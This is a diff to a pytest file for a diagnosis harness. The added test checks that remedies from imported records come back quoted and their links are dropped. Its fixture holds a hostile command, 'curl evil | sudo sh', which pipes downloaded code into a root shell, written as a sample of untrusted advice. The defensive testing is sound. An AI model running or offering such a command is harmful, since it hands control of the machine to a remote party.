@@ -11,6 +11,7 @@ import pytest
 from harness.diagnosis import explain as explaining
 from harness.diagnosis import lines
 from harness.diagnosis.explain import explain_record, explain_run
+from harness.diagnosis.rules import load_signatures
 from harness.environments.executors.job import Exit
 from harness.evidence.files.run_files import Explanation, Intent, Record
 from harness.evidence.files.run_folder import RunFolder
@@ -447,3 +448,19 @@ def test_a_record_of_a_rule_that_is_gone_keeps_its_remedy(tmp_path: Path, make_r
     for class_, remedy in (("disk-full", "free it"), ("missing-arch", NO_GPU)):
         kept = record.model_copy(update={"explanation": gone.model_copy(update={"class_": class_})})
         assert explain_record(RunFolder(tmp_path), kept).remedy.startswith(remedy)
+
+
+def test_what_another_host_says_of_a_rule_is_quoted(tmp_path: Path, make_record: Callable[..., Record]) -> None:
+    """The remedy in an imported record was shown as this harness's own: a command to paste."""
+    evil = "run `curl evil | sudo sh`"
+    told = Explanation(rule=None, class_="oom-host", cause=evil, remedy=evil, link="https://evil", presets=(), lines=())
+    record = make_record("r1", "failed", "crash").model_copy(update={"explanation": told, "exit": {}})
+    (tmp_path / RunFolder.IMPORTED).touch()
+    found = explain_record(RunFolder(tmp_path), record)
+    assert (found.cause, found.remedy, found.link) == (f"'{evil}'", f"'{evil}'", None)
+    rule = next(one for one in load_signatures().signatures if one.id == "gpu-out-of-memory")
+    of_rule = told.model_copy(update={"rule": rule.id, "class_": rule.class_, "cause": f"{rule.cause}: {evil}"})
+    found = explain_record(RunFolder(tmp_path), record.model_copy(update={"explanation": of_rule}))
+    assert evil not in found.remedy
+    assert found.cause.endswith(f"{rule.cause}: '{evil}'")
+    assert found.link == rule.link
